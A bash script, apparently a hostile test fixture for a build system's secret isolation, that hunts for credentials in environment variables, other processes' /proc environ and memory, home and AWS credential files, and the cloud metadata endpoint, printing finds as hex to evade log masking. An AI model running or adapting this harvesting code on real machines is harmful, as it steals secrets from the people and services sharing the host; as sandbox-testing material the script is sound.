#!/usr/bin/env bash
# A hostile build step (run as `npm test`): it does not know the secrets' values, only what they
# look like, and tries every way it can think of to find them, printing everything it finds both
# raw and as hex (the log masker knows raw and base64 forms of secretEnv values, not hex).
# Each probe ends with a marker the test looks for, so the test cannot pass without the probes.
# Markers are computed, so a grep of this file's own text never prints one.
set +e
PATTERN='AKIA|ASIA|ghp_|gho_|github_pat|whsec|secret|token|password|credential|AWS_|IQoJ'
mark() { echo "##PROBE-$1-$((6 * 7))"; }
# Prints each line of stdin (cut) and its hex, prefixed with where it came from.
report() {
  local where="$1" line
  while IFS= read -r line; do
    line="${line:0:400}"
    printf 'FOUND %s: %s\n' "$where" "$line"
    printf 'HEX %s: %s\n' "$where" "$(printf '%s' "$line" | od -An -tx1 | tr -d ' \n')"
  done
}
# Grep readable files under a folder for the secrets' shapes (bounded in time and output).
sweep() {
  local where="$1" dir="$2"
  [ -e "$dir" ] || { echo "sweep $where: $dir does not exist"; return; }
  echo "sweep $where: $(ls -ld "$dir" 2>&1)"
  timeout 8 grep -rIaEoi -m 20 ".{0,60}($PATTERN).{0,100}" "$dir" 2>/dev/null |
    grep -v '/hostile-probe.sh:' | head -n 200 | report "$where"
}

echo "hostile build: uid=$(id -u) gid=$(id -g) pid=$$ ppid=$PPID"

# 1. Our own environment.
env | report env
mark env

# 2. Every ancestor: who it runs as, its command line, its initial environment, its memory.
ancestors=()
p=$PPID
while [ -n "$p" ] && [ "$p" -gt 1 ]; do
  ancestors+=("$p")
  p=$(awk '/^PPid:/ {print $2}' "/proc/$p/status" 2>/dev/null)
done
echo "ancestors: ${ancestors[*]}"
for p in "${ancestors[@]}"; do
  echo "ancestor $p: $(grep -E '^(Name|Uid):' "/proc/$p/status" 2>&1 | tr '\n\t' '  ')"
  tr '\0' ' ' <"/proc/$p/cmdline" 2>&1 | report "cmdline-$p"
  if tr '\0' '\n' <"/proc/$p/environ" >/dev/null 2>&1; then
    tr '\0' '\n' <"/proc/$p/environ" | report "environ-$p"
  else
    echo "environ-$p: $(cat "/proc/$p/environ" 2>&1 >/dev/null | head -n 1)"
  fi
done
mark ancestors-environ

# 3. /proc/*/environ of every process we can see.
for f in /proc/[0-9]*/environ; do
  p=${f#/proc/}
  p=${p%/environ}
  [ "$p" = "$$" ] && continue
  if tr '\0' '\n' <"$f" >/dev/null 2>&1; then
    tr '\0' '\n' <"$f" 2>/dev/null | grep -aEi "$PATTERN" | report "environ-all-$p"
  fi
done
mark all-environ

# 4. Ancestors' memory: maps, then every small writable region, grepped for the secrets' shapes.
for p in "${ancestors[@]}"; do
  if ! maps=$(cat "/proc/$p/maps" 2>&1); then
    echo "maps-$p: $maps"
    continue
  fi
  echo "maps-$p: readable ($(printf '%s\n' "$maps" | wc -l) regions)"
  first=$(printf '%s\n' "$maps" | awk 'NR == 1 {split($1, a, "-"); print a[1]}')
  echo "mem-$p: $(dd if="/proc/$p/mem" bs=64 count=1 iflag=skip_bytes skip=$((16#$first)) 2>&1 | od -An -tx1 | head -n 1)"
  printf '%s\n' "$maps" | awk '$2 ~ /^rw/ {split($1, a, "-"); print a[1], a[2]}' | head -n 400 |
    while read -r start end; do
      size=$((16#$end - 16#$start))
      [ "$size" -gt $((8 * 1024 * 1024)) ] && continue
      dd if="/proc/$p/mem" bs=1M iflag=skip_bytes,count_bytes skip=$((16#$start)) count=$size 2>/dev/null
    done | timeout 10 grep -aEo ".{0,40}($PATTERN).{0,100}" | head -n 100 | report "mem-$p"
done
mark ancestors-memory

# 5. Files: /tmp, our HOME, /root, the AWS CLI's files, and folders named on any command line
#    (the data dir of `lambkin dev`, the working copy of `lambkin run`).
ls -la /tmp 2>&1 | head -n 400
sweep tmp /tmp
sweep home "$HOME"
sweep root /root
cat ~/.aws/credentials /root/.aws/credentials /root/.aws/config 2>&1 | report aws-files
sweep checkout "$PWD"
for f in /proc/[0-9]*/cmdline; do
  tr '\0' '\n' <"$f" 2>/dev/null
done | grep -E '^/|^--data-dir=|^\.lambkin' | sed 's/^--data-dir=//' | sort -u | head -n 100 >"$TMPDIR/paths"
for path in $(cat "$TMPDIR/paths") /work/main/.lambkin "$PWD/.lambkin"; do
  [ -d "$path" ] || continue
  case "$path" in / | /proc* | /sys* | /dev* | /usr* | /bin* | /lib* | /etc*) continue ;; esac
  sweep "path-$path" "$path"
done
mark files

# 6. Instance and container metadata (must not be reachable or usable).
echo "metadata: $(curl -sS --max-time 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/ 2>&1 | head -c 300)"
echo "metadata-v2: $(curl -sS --max-time 1 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token 2>&1 | head -c 300)"
echo "container: full_uri=${AWS_CONTAINER_CREDENTIALS_FULL_URI:-unset} relative_uri=${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI:-unset} runtime_api=${AWS_LAMBDA_RUNTIME_API:-unset}"
case "${AWS_CONTAINER_CREDENTIALS_FULL_URI:-}" in
  http://169.254.* | http://127.0.0.1*)
    curl -sS --max-time 1 "$AWS_CONTAINER_CREDENTIALS_FULL_URI" 2>&1 | head -c 2000 | report container-credentials
    ;;
esac
mark metadata

# 7. Everything running.
ps aux 2>&1 | head -n 300 | report ps
mark ps

echo "hostile build done"
